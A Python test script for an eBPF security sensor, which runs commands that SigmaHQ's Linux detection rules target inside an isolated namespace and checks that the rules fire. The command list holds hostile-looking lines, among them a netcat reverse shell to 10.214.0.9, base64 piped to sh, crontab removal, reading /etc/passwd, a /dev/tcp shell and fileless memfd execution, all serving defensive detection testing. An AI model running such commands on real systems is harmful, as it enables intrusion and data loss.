#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Real programs do what SigmaHQ's rules for Linux look for; the rules, unchanged, see it. So do ours.

Usage: sensor_sigma.py SENSOR_WATCH RULES SIGMAHQ
In a mount and network namespace of its own, where nothing of the machine can be changed.
"""
import glob
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

from sensor_kit import Watch, needs, run
from tap import ok, plan, skip, skip_all

# What is run by sh in a folder of its own, and the title of SigmaHQ's rule. Programs that are not
# there are copies of true(1): their names are what counts.
SIGMA = [
    ("echo aGk= | base64 -d", "Decode Base64 Encoded Text"),
    ("sh -c 'echo aWQK | base64 -d | sh '", "Linux Base64 Encoded Pipe to Shell"),
    ("/bin/echo IyEvYmluL2Jhc2gK", "Linux Base64 Encoded Shebang In CLI"),
    ("crontab -r", "Remove Scheduled Cron Task/Job"),
    ("curl -s -o ./page http://10.214.0.9:1/", "Curl Usage on Linux"),
    ("curl -s -o ./x.sh http://10.214.0.9:1/x.sh", "Suspicious Curl File Upload - Linux", False),
    ("wget -q -T 1 -t 1 -O $PWD/page http://10.214.0.9:1/",
     "Download File To Potentially Suspicious Directory Via Wget"),
    ("touch f; rm -f f", "File Deletion"),
    ("touch .bash_history; rm -f ./.bash_history", "History File Deletion"),
    ("cat /etc/passwd", "Local System Accounts Discovery - Linux"),
    ("groups", "Local Groups Discovery - Linux"),
    ("ping -c 1 -W 1 127.0.0.1", "Linux Remote System Discovery"),
    ("nc -e /bin/sh 10.214.0.9 4444", "Potential Netcat Reverse Shell Execution"),
    ("/usr/bin/python3 -c 'import pty; pty.spawn([\"true\"])'",
     "Python Spawning Pretty TTY Via PTY Module"),
    ("sh -c 'chown root f; chmod u+s f'", "Setuid and Setgid"),
    ("uname -a", "System Information Discovery"),
    ("cp /bin/true miner; $PWD/miner --pool x", "Potentially Suspicious Execution From Tmp Folder"),
    ("bash -c '. /tmp/none.sh'", "Execution Of Script Located In Potentially Suspicious Directory"),
    ("nohup true", "Nohup Execution"),
    ("doas true", "Linux Doas Tool Execution"),
    ("chattr -i f", "Remove Immutable File Attribute"),
]


def inside(watch_program, rules, sigma, top):
    for argv in ("mount -t tmpfs tmpfs " + top, "mount -t tmpfs tmpfs /var/log",
                 "mount -t tmpfs tmpfs /dev/shm", "ip link set lo up",
                 "ip link add here type veth peer name there", "ip addr add 10.214.0.1/24 dev here",
                 "ip link set here up"):
        done = run(*argv.split())
        if done.returncode:
            skip_all("%s: %s" % (argv, done.stderr.strip()))
    os.chmod(top, 0o755)
    os.environ["PATH"] = "/usr/sbin:/usr/bin:/sbin:/bin:" + top + "/bin"
    os.mkdir(top + "/bin")
    for name in ("crontab", "doas", "nc", "chattr", "wget", "curl", "ping"):
        if name == "nc" or not shutil.which(name):
            shutil.copy("/bin/true", "%s/bin/%s" % (top, name))
    os.environ["PATH"] = top + "/bin:" + os.environ["PATH"]
    ours = glob.glob(rules + "/live/*.yml")
    theirs = [p for kind in ("process_creation", "network_connection")
              for p in glob.glob("%s/rules/linux/%s/*.yml" % (sigma, kind))]
    watch = Watch(watch_program, *ours, *theirs)
    needs(watch, "process", "connect")
    commands(watch, top)
    own_rules(watch, top)
    time.sleep(0.5)
    watch.end()
    judge(watch, top, bool(theirs))
    sys.exit(plan())


def commands(watch, top):
    for i, (command, *_) in enumerate(SIGMA):
        folder = "%s/%d" % (top, i)
        os.mkdir(folder)
        run("sh", "-c", command, cwd=folder, timeout=20)
    # A shell that calls home, to an address that is not loopback.
    listener = socket.create_server(("10.214.0.1", 4444))
    threading.Thread(target=lambda: listener.accept()[0].close(), daemon=True).start()
    os.mkdir(top + "/shell")
    run("bash", "-c", "exec 3<>/dev/tcp/10.214.0.1/4444", cwd=top + "/shell", timeout=20)


def own_rules(watch, top):
    code = """
import os
fd = os.memfd_create("x")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["memory"], {})
"""
    os.mkdir(top + "/own")
    run("/usr/bin/python3", "-c", code, cwd=top + "/own")
    code = """
import os
open("gone", "wb").write(open("/bin/true", "rb").read())
os.chmod("gone", 0o755)
fd = os.open("gone", os.O_RDONLY)
os.unlink("gone")
os.execve(fd, ["gone"], {})
"""
    run("/usr/bin/python3", "-c", code, cwd=top + "/own")
    os.mkdir(top + "/own/open")
    os.chmod(top + "/own/open", 0o1777)
    for place in ("/dev/shm", top + "/own/open"):
        path = "%s/hf-own-%d" % (place, os.getpid())
        shutil.copy("/bin/true", path)
        run(path, cwd=top + "/own")
        os.unlink(path)
    path = top + "/listen"
    shutil.copy(os.path.realpath("/usr/bin/python3"), path)
    run(path, "-c", "import socket; socket.create_server(('10.214.0.1', 5555))", cwd=top + "/own")
    os.unlink(path)
    code = """
import os, sys
print(os.getpid(), flush=True)
sys.stdin.readline()
os.execv("/bin/true", ["risen"])
"""
    risen = subprocess.Popen(["/usr/bin/python3", "-c", code], cwd=top + "/own", text=True,
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    watch.command("forget " + risen.stdout.readline().strip())
    risen.communicate("go\n")
    # No rises: by CAP_SETUID; in a user namespace alone.
    run("setpriv", "--reuid=1001", "--ambient-caps=+setuid", "--inh-caps=+setuid", "setpriv",
        "--reuid=0", "true", cwd=top + "/own")
    run("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "unshare", "-Ur", "true",
        cwd=top + "/own")


def fired(watch, folder):
    return {t for e in watch.events if e.get("CurrentDirectory") == folder for t in e["rules"]}


def judge(watch, top, with_sigma):
    for i, (command, title, *wanted) in enumerate(SIGMA):
        titles = fired(watch, "%s/%d" % (top, i))
        if title and with_sigma:
            wants = wanted != [False]
            ok((title in titles) == wants, "%s: %s%s" % (
                command, "" if wants else "not ", title), sorted(titles))
    if not with_sigma:
        skip("SigmaHQ's rules", "they are not there")
    else:
        shell = [e for e in watch.events if e["category"] == "network_connection" and
                 e.get("DestinationPort") == "4444" and e["DestinationIp"] == "10.214.0.1"]
        ok(shell and "Linux Reverse Shell Indicator" in shell[0]["rules"] and
           shell[0]["Image"].endswith("/bin/bash"), "a shell that calls home", shell)
    own = fired(watch, top + "/own")
    for title in ("Program that is no file", "Program whose file was deleted",
                  "Program in shared memory", "Program in a folder that anybody may write into"):
        ok(title in own, title, sorted(own))
    listening = [e for e in watch.events if e["category"] == "network_listener" and
                 e.get("SourcePort") == "5555"]
    ok(listening and "New listener of a shell or relay" in listening[0]["rules"],
       "New listener of a shell or relay", listening)
    rises = [e for e in watch.events if e["category"] == "privilege_change" and
             e.get("CurrentDirectory", "").startswith(top)]
    ok(len(rises) == 1 and rises[0]["CommandLine"] == "risen" and
       rises[0]["OldUser"] != "root" and rises[0]["UserId"] == "0" and
       rises[0]["rules"] == ["Rights that no program gave"], "rights from nowhere", rises)
    dropped = [e for e in watch.events if e.get("CurrentDirectory") == top + "/own" and
               e["category"] == "process_creation" and e.get("CommandLine") == "true"]
    ok(dropped and dropped[-1]["UserId"] == "65534" and
       not {"ImageMemory", "ImageDeleted", "ImageWorldWritable"} & set(dropped[-1]),
       "a process of another user", dropped)
    ok(all(s["lost"] == 0 and s["bad"] == 0 for s in watch.state.values()),
       "nothing was lost or misunderstood", watch.state)


def main():
    if sys.argv[1] == "--inside":
        inside(*sys.argv[2:6])
    if os.geteuid():
        skip_all("not root")
    unshare = ["unshare", "--net", "--mount", "--fork", "--kill-child"]
    if run(*unshare, "true").returncode:
        skip_all("no namespaces")
    done = run(sys.argv[1], stdin=subprocess.DEVNULL)
    if done.returncode == 77:
        skip_all("no eBPF: " + done.stderr.strip())
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    with tempfile.TemporaryDirectory(prefix="hf-sensor-", dir="/tmp") as top:
        sys.exit(subprocess.call([*unshare, sys.executable, os.path.abspath(__file__), "--inside",
                                  *map(os.path.abspath, sys.argv[1:4]), top]))


main()
